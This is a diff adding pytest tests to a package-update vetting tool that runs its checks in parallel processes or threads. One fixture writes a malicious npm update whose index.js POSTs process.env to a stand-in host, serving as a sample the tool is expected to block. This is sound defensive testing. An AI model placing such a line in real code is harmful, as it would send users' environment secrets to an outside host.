@@ -3,12 +3,19 @@
 import json
 import shutil
 import sys
+from collections.abc import Callable
+from functools import partial
 from pathlib import Path
 
 import pytest
 
 from beartrap.cli.main import main
+from beartrap.flows.progress import Silent
+from beartrap.flows.vet import BadUpdate, Settings, Subject, vet
+from beartrap.flows.vet_each import _by_copies, _by_threads
 from beartrap.flows.vet_folder import Pair, compare_folders
+from beartrap.model.verdict import Admission
+from beartrap.model.vetting import Vetted
 
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "vet"))
 from package_lab import npm, wheel
@@ -121,3 +128,35 @@ def test_what_belongs_to_packages_makes_no_other_folder_of_it(
         named(folder, "SHA256SUMS", "SHA256SUMS.asc", f"one-{version}.tgz.asc")
     _, told = asked(old, new, capsys=capsys)
     assert len(told["packages"]) == 2 and not told["gaps"]
+
+
+def test_copies_and_threads_tell_the_same_of_each_package(tmp_path: Path) -> None:
+    old, new = folders(tmp_path)
+    for name in ("one", "two", "three", "four"):
+        npm(old, name, "1.0.0", {"index.js": "1\n"})
+        steals = "require('https').request('https://c.invalid', {method: 'POST'}).end(JSON.stringify(process.env))\n"
+        npm(new, name, "1.0.1", {"index.js": steals if name == "two" else "2\n"})
+    jobs = [
+        partial(vet, Subject(pair.old, "old"), Subject(pair.new, "new"), Settings())
+        for pair in compare_folders(old, new).pairs
+    ]
+    by_copies, by_threads = dict(_by_copies(jobs, 2, Silent())), dict(_by_threads(jobs, 2))
+    assert by_copies == by_threads
+    assert [by_copies[number].verdict.value for number in range(4)].count("block") == 1
+
+
+@pytest.mark.parametrize(
+    "way", [lambda jobs: _by_copies(jobs, 2, Silent()), lambda jobs: _by_threads(jobs, 2)], ids=["copies", "threads"]
+)
+def test_one_package_that_breaks_costs_itself_and_a_bad_one_is_told(way: Callable) -> None:
+    def breaks() -> Vetted:
+        raise ValueError("a fault of ours")
+
+    def bad() -> Vetted:
+        raise BadUpdate("thing.whl: there is no such file or folder")
+
+    calm = Vetted("new", "old", Admission.ADMIT, ("Nothing has changed.",))
+    found = dict(way([lambda: calm, breaks]))
+    assert found[0] == calm and "ValueError: a fault of ours" in found[1].why
+    with pytest.raises(BadUpdate, match=r"thing\.whl"):
+        list(way([bad]))
